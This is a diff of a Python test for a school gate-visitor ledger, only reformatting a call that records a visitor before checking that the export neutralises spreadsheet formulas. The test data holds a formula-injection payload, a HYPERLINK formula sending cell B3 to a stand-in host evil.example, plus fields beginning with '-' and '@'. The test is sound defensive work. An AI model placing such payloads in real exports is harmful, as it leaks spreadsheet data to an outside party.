@@ -66,9 +66,14 @@ def test_gate_visitor_export_does_not_carry_a_formula_typed_into_a_name(cast, lo
     from anxin.ledgers.gate import services
 
     services.visitor_record(
-        actor=cast.users["gate_guard"], school=cast.school, client_key=uuid.uuid4(),
-        name='=HYPERLINK("http://evil.example/?"&B3,"点此")', id_last4="123x", reason="-送饭", host_text="@班主任",
-    )  # fmt: skip
+        actor=cast.users["gate_guard"],
+        school=cast.school,
+        client_key=uuid.uuid4(),
+        name='=HYPERLINK("http://evil.example/?"&B3,"点此")',
+        id_last4="123x",
+        reason="-送饭",
+        host_text="@班主任",
+    )
     today = timezone.localdate().isoformat()
     response = login(cast.users["principal"]).get(
         reverse("ledgers:gate_export") + f"?date_from={today}&date_to={today}"
